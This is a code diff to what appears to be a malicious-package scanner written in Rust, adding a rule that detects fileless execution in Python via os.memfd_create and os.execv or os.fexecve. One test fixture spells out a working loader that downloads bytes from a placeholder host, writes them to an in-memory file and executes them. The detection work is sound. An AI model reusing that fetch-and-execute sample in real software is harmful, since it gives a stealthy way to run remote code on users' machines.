@@ -90,8 +90,77 @@ fn maps_executable(checker: &Checker, call: &ExprCall, qualname: &str) -> bool {
     false
 }
 
+/// `os.execv('/proc/self/fd/%d' % fd, …)` or `os.fexecve(fd, …)`: a program started from a
+/// file descriptor, which after `os.memfd_create` is a file that exists only in memory.
+fn starts_from_descriptor(checker: &Checker, call: &ExprCall, qualname: &str) -> bool {
+    if qualname == "os.fexecve" {
+        return true;
+    }
+    if !super::process_spawn::is_spawn(qualname) {
+        return false;
+    }
+    let program = match call.arguments.args.first() {
+        Some(Expr::List(list)) => list.elts.first(),
+        Some(Expr::Tuple(tuple)) => tuple.elts.first(),
+        other => other,
+    };
+    program
+        .and_then(|program| super::partial_text(checker, program))
+        .is_some_and(|text| {
+            text.split_whitespace()
+                .next()
+                .is_some_and(|head| head.starts_with("/proc/") && head.contains("/fd/"))
+        })
+}
+
+/// Fileless execution on Linux: an anonymous in-memory file (`os.memfd_create`) and a program
+/// started from a descriptor. Together they are the loader shape (`combo:shellcode-loader`).
+fn check_memory_file(checker: &mut Checker, call: &ExprCall, qualname: &str) -> bool {
+    let creates = qualname == "os.memfd_create";
+    if !creates && !starts_from_descriptor(checker, call, qualname) {
+        return false;
+    }
+    let context = checker.context();
+    let (severity, message, tag) = if creates {
+        let severity = match context {
+            // Alone, a way to hand data to a child without a temporary file (google-auth
+            // passes client certificates so); only a start from it makes a loader.
+            ExecContext::Install | ExecContext::Import => 0.15,
+            ExecContext::Runtime => 0.02,
+            ExecContext::TestOrDocs => 0.01,
+        };
+        (
+            severity,
+            format!(
+                "{qualname} creates a file that exists only in memory {}",
+                context.phrase()
+            ),
+            "exec-memory",
+        )
+    } else {
+        let severity = match context {
+            ExecContext::Install | ExecContext::Import => 0.5,
+            ExecContext::Runtime => 0.3,
+            ExecContext::TestOrDocs => 0.05,
+        };
+        (
+            severity,
+            format!(
+                "{qualname} starts a program from a file descriptor, leaving no file on disk, {}",
+                context.phrase()
+            ),
+            "memory-thread",
+        )
+    };
+    checker.report(&RULE, call.range(), message, severity, vec!["memory", tag]);
+    true
+}
+
 /// Memory and thread calls.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if check_memory_file(checker, call, qualname) {
+        return;
+    }
     let function = win32_function(qualname);
     let executable_allocation = function.and_then(protection_position).is_some_and(|at| {
         call.arguments
@@ -153,6 +222,26 @@ mod tests {
         );
         let mapped = "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n";
         assert!(max_severity("p/pkg/__init__.py", mapped, "WH230") >= 0.4);
+    }
+
+    #[test]
+    fn a_program_started_from_an_in_memory_file_is_a_loader() {
+        let fileless = "import os, urllib.request\ndata = urllib.request.urlopen('https://x.example.invalid/k').read()\nfd = os.memfd_create('k', 0)\nos.write(fd, data)\nos.execv('/proc/self/fd/%d' % fd, ['k'])\n";
+        let found = findings("p/pkg/__init__.py", fileless);
+        assert!(
+            found.iter().any(|f| f.tags.contains(&"exec-memory")),
+            "{found:?}"
+        );
+        assert!(
+            found.iter().any(|f| f.tags.contains(&"memory-thread")),
+            "{found:?}"
+        );
+        let direct = "import os\ndef run(fd):\n    os.fexecve(fd, ['x'], {})\n";
+        assert!(max_severity("p/pkg/m.py", direct, "WH230") >= 0.3);
+        // A descriptor passed to a child, or a path that only mentions /proc, starts nothing
+        // from memory.
+        let listing = "import subprocess\nsubprocess.run(['ls', '/proc/self/fd/'])\n";
+        assert_eq!(max_severity("p/pkg/m.py", listing, "WH230"), 0.0);
     }
 
     #[test]
